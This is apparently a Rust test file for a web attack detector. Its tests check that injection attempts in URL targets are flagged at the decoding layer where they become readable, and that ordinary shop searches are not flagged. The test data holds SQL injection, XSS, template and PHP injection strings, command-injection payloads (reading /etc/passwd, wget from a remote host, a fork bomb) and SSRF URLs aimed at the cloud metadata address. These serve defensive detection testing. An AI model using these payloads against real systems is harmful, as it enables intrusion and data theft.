//! Values of attackers and of customers.

use super::*;

fn suspect(event: &Event<'_>) -> bool {
    FIELDS.iter().any(|field| super::suspect(event, *field))
}

const LAYERS: [Layer; 4] = [Layer::Raw, Layer::Once, Layer::Twice, Layer::Base64];

fn words(event: &Event<'_>, family: Family, layer: Layer) -> Vec<&'static str> {
    let all = FIELDS.iter().flat_map(|field| super::words(event, *field));
    all.filter(|word| (word.family, word.layer) == (family, layer)).map(|word| word.name).collect()
}

fn event(target: &'static str) -> Event<'static> {
    let mut event = Event::default();
    event.reset(target.as_bytes());
    event.set_target(target.as_bytes());
    event
}

#[test]
fn attacks_have_words_at_the_layer_where_they_become_readable() {
    for (target, family, layer, word) in [
        ("/i?id=1'or'1'='1", Family::Sqli, Layer::Raw, "condition"),
        ("/i?id=1%27+or+1=1--", Family::Sqli, Layer::Once, "condition"),
        ("/i?id=1%2527+or+1%253d1--", Family::Sqli, Layer::Twice, "condition"),
        ("/i/1%20and%201=2/x", Family::Sqli, Layer::Once, "condition"),
        ("/i?id=-1+union+select+1,2", Family::Sqli, Layer::Once, "select"),
        ("/i?id=1;drop+table+cards", Family::Sqli, Layer::Once, "statement"),
        ("/i?id=1+order+by+9--", Family::Sqli, Layer::Once, "clause"),
        ("/i?id='||version()||'", Family::Sqli, Layer::Raw, "condition"),
        ("/i?user=admin'--", Family::Sqli, Layer::Raw, "comment"),
        ("/i?id=1'", Family::Sqli, Layer::Raw, "quote"),
        ("/i?h=1;id", Family::Cmdi, Layer::Raw, "chained"),
        ("/i?h=1+%26%26+cat+/etc/passwd", Family::Cmdi, Layer::Once, "chained"),
        ("/i?h=1+&&+wget+http://h/x", Family::Cmdi, Layer::Once, "chained"),
        ("/i?h=$(id)", Family::Cmdi, Layer::Raw, "substituted"),
        ("/i?h=`uname+-a`", Family::Cmdi, Layer::Once, "substituted"),
        ("/i?h=w'h'oami", Family::Cmdi, Layer::Raw, "hidden"),
        ("/i?h={cat,/etc/passwd}", Family::Cmdi, Layer::Raw, "hidden"),
        ("/i?h=;/???/??t", Family::Cmdi, Layer::Raw, "hidden"),
        ("/i?h=/bin/sh;", Family::Cmdi, Layer::Raw, "shell"),
        ("/i?h=ls+-la;", Family::Cmdi, Layer::Once, "called"),
        ("/i?h=1;f(){+f|f&+};f", Family::Cmdi, Layer::Once, "shell"),
        ("/i?q=<svg/onload=x>", Family::Xss, Layer::Raw, "handler"),
        ("/i?q=%22%20onfocus=alert(1)", Family::Xss, Layer::Once, "handler"),
        ("/i?q=%253Ciframe%20src=x", Family::Xss, Layer::Twice, "element"),
        ("/i?q=java%09script:alert(1)", Family::Xss, Layer::Once, "address"),
        ("/i?q=%27-alert(1)-%27", Family::Xss, Layer::Once, "script"),
        ("/i?q=%3C?php+echo", Family::Code, Layer::Once, "tag"),
        ("/i?q=file_get_contents(%27x%27)", Family::Code, Layer::Once, "call"),
        ("/i?q={{7*7}}", Family::Code, Layer::Raw, "template"),
        ("/i?q=$_GET[x]", Family::Code, Layer::Raw, "variable"),
        ("/i?q=O:8:%22stdClass%22:0:{}", Family::Code, Layer::Once, "object"),
        ("/i?q=*)(uid=*", Family::Code, Layer::Raw, "filter"),
        ("/i?q=x%0d%0aSet-Cookie:+a", Family::Code, Layer::Once, "header"),
        ("/i?q=http://169.254.169.254/", Family::Url, Layer::Raw, "internal"),
        ("/i?q=http%3A%2F%2F2852039166%2F", Family::Url, Layer::Once, "disguised"),
        ("/i?q=gopher://h:25/", Family::Url, Layer::Raw, "scheme"),
        ("/i?q=http://203.0.113.9/a", Family::Url, Layer::Raw, "bare"),
        ("/i?q=/%5Cbad.example", Family::Url, Layer::Once, "disguised"),
        ("/i?q=http://bad.example/x?", Family::Url, Layer::Raw, "include"),
        ("/i?q=ssh2.shell://u:p@h.example:22/xterm", Family::Url, Layer::Raw, "scheme"),
        ("/i?q=a%26more%20x%20%7C%20id", Family::Cmdi, Layer::Once, "chained"),
        ("/i?q=http://h.example/x.txt?", Family::Url, Layer::Raw, "include"),
        ("/i?q=MScgb3IgMT0xLS0gLQ==", Family::Sqli, Layer::Base64, "condition"),
        ("/i?q=PHN2Zy9vbmxvYWQ9YWxlcnQoMSk-", Family::Xss, Layer::Base64, "handler"),
        ("/i?q=aHR0cDovLzE2OS4yNTQuMTY5LjI1NC8%3D", Family::Url, Layer::Base64, "internal"),
    ] {
        let event = event(target);
        assert!(suspect(&event), "{target}");
        assert_eq!(words(&event, family, layer), [word], "{target}");
        for below in LAYERS.into_iter().filter(|below| *below < layer) {
            assert!(words(&event, family, below).is_empty(), "{target}: {below:?}");
        }
    }
}

#[test]
fn customers_have_none() {
    for target in [
        "/search?q=O'Reilly+or+Penguin",
        "/search?q=it's+fine",
        "/search?q=%22rock+'n'+roll%22+and+more",
        "/search?q=select+a+gift+from+our+shop",
        "/search?q=student+union+select+committee",
        "/search?q=7+and+a+half",
        "/search?q=13%22+laptop+case",
        "/search?q=drop+table+lamp",
        "/search?q=salt+%26+pepper",
        "/search?q=cat+and+dog;sort=price",
        "/search?q=ls+mount+(cable)",
        "/list?fields=name|id|price",
        "/list?sort=price;dir=asc",
        "/p;jsessionid=0A1B?id=3",
        "/t?utm_source=news|mail|top&utm_campaign=spring+sale+(2024)",
        "/t?filter={%22brand%22:%22a%22,%22size%22:[1,2]}",
        "/t?data=eyJhIjoxfQ==&sig=a+b/c==",
        "/検索?q=カード+注文",
        "/t?q=%E3%82%AB%E3%83%BC%E3%83%89%27s",
        "/t?title=Rock+%26+Roll+-+Best+of+(1955)",
        "/t?q=5'+x+4'+rug",
        "/t?q=1950+or+1960",
        "/t?q=if+you+like+it+then+call+us",
        "/search?q=D%27Angelo+%26+Sons",
        "/search?q=men%27s+shoes+size+9%22",
        "/search?q=%22black+and+white%22+-sepia+-print",
        "/search?q=how+to+update+a+table+in+word",
        "/search?q=insert+coin+(arcade)",
        "/search?q=order+by+phone",
        "/search?q=group+by+age",
        "/search?q=where+is+my+order%3F",
        "/search?q=union+jack+flag+(large)",
        "/search?q=top+10+%2F+best+of",
        "/search?q=50%25+off",
        "/search?q=c%2B%2B+(2nd+edition)",
        "/search?q=tom+%26+jerry",
        "/search?q=%3C3+cats",
        "/search?q=price+%3C+100",
        "/search?q=alert+system+(home)",
        "/search?q=script+font+%22brush%22",
        "/search?q=echo+dot+(3rd+gen)",
        "/search?q=curl+iron+%7C+hair",
        "/search?q=cat+litter+%2F+20kg",
        "/search?q=sleep+mask+(silk)",
        "/search?q=node+%26+path+lights",
        "/search?q=ping+pong+-balls",
        "/p?title=Phones%2C%20Tablets%20%26%20More%20%7C%20Example%20Shop",
        "/p?title=Search+%26+find+hotels+%7C+Example+Travel",
        "/ad;click=http://d.example.com/p/?c=1&u=http://e.example.com/c?d=http://f.example.com/?",
        "/search?q=%E9%9D%B4+%E8%B5%A4%E3%81%84%E3%80%80%E3%80%8C%E9%99%90%E5%AE%9A%E3%80%8D",
        "/p?u=https%3A%2F%2Fwww.example.com%2Fa%3Fb%3D1%26c%3D2",
        "/p?redirect=%2Faccount%2Forders%3Fpage%3D2",
        "/p?utm_source=mail&utm_campaign=Spring%20Sale%20%28EU%29&utm_content=a|b|c",
        "/p?gclid=EAIaIQobChMI_-a1b2&fbclid=IwAR0x_y-z",
        "/p?ids=1%2C2%2C3&sort=-price,name",
        "/p?filters=%5B%7B%22field%22%3A%22size%22%2C%22op%22%3A%22eq%22%2C%22v%22%3A%22M%22%7D%5D",
        "/p?bbox=-0.5,51.2,0.3,51.6&zoom=12",
        "/p?date=2024-01-01T00%3A00%3A00%2B09%3A00",
        "/p?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_123",
        "/p?u=aHR0cDovL3d3dy5leGFtcGxlLmpwL2MucGhwPw==&id=P2JCJGOZSRDO",
        "/p?SAMLResponse=PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiIElEPSJfMSI+PC9zYW1scDpSZXNwb25zZT4=",
        "/oauth2/authorize?client_id=a&redirect_uri=http%3A%2F%2F127.0.0.1%3A8080%2Fcb",
        "/c?dl=https%3A%2F%2Fwww.example.jp%2F%3Flocation%3DTokyo&dt=localStorage%20disabled",
        "/log?msg=XMLHttpRequest%20error",
        "/thmb/qOWMr=/70x84/filters:no_upscale():max_bytes(150000):strip_icc()/a.jpg",
        "/cdn-cgi/image/format=auto,onerror=redirect,quality=90,width=638/https://h.example/a.jpg",
        "/post/?replytocom=3303#respond",
        "/p?data=eyJldmVudCI6InZpZXciLCJwYWdlIjoiLz9hPTEmYj0yIn0=",
        "/p?sig=3%2Bq%2FaZ%2Bb%3D%3D&e=1700000000",
        "/p?email=john.o%27neil%2Bshop%40mail.example",
        "/p?name=M%C3%BCller+%26+Co.+KG",
        "/p?address=12+Main+St.%3B+Apt+%233",
        "/p?comment=Great+product%21+I%27d+buy+it+again+%3A%29",
        "/p?text=first+line%0D%0Asecond+line",
        "/p?size=10-12&color=black%2Fwhite",
        "/p?formula=H2SO4+(aq)",
        "/img/photo%20(1).jpg",
        "/files/Report%20-%20Q1%20%26%20Q2%20(final).pdf",
        "/wiki/O%27Neill_(surname)",
        "/a;v=1.0/b;c=2?x=1",
    ] {
        let event = event(target);
        for family in Family::ALL {
            for layer in LAYERS {
                assert!(words(&event, *family, layer).is_empty(), "{target}: {family:?}");
            }
        }
    }
}

#[test]
fn what_has_no_sign_is_not_read() {
    for target in ["/a/b.html?x=1&y=2", "/%E3%81%82?q=%e3%82%ab", "/a-b_c~d?e=f,g:h@i!"] {
        assert!(!suspect(&event(target)), "{target}");
    }
    for target in ["/?q=%2527", "/?q=%u0027", "/?q=a+b", "/?q=%28", "/?q=%c0%a7", "/?q=%00"] {
        assert!(suspect(&event(target)), "{target}");
    }
}

proptest::proptest! {
    #[test]
    fn any_value_is_read(value in proptest::collection::vec(proptest::num::u8::ANY, 0..80)) {
        let _: Vec<_> = Family::ALL.iter().map(|family| family.word(&value)).collect();
    }

    #[test]
    fn any_text_of_signs_is_read(value in "[ '\"`()|;&$<>{}*#/\\\\\\-=,.@%a-f0-3\n]{0,40}") {
        let _: Vec<_> = Family::ALL.iter().map(|family| family.word(value.as_bytes())).collect();
    }
}
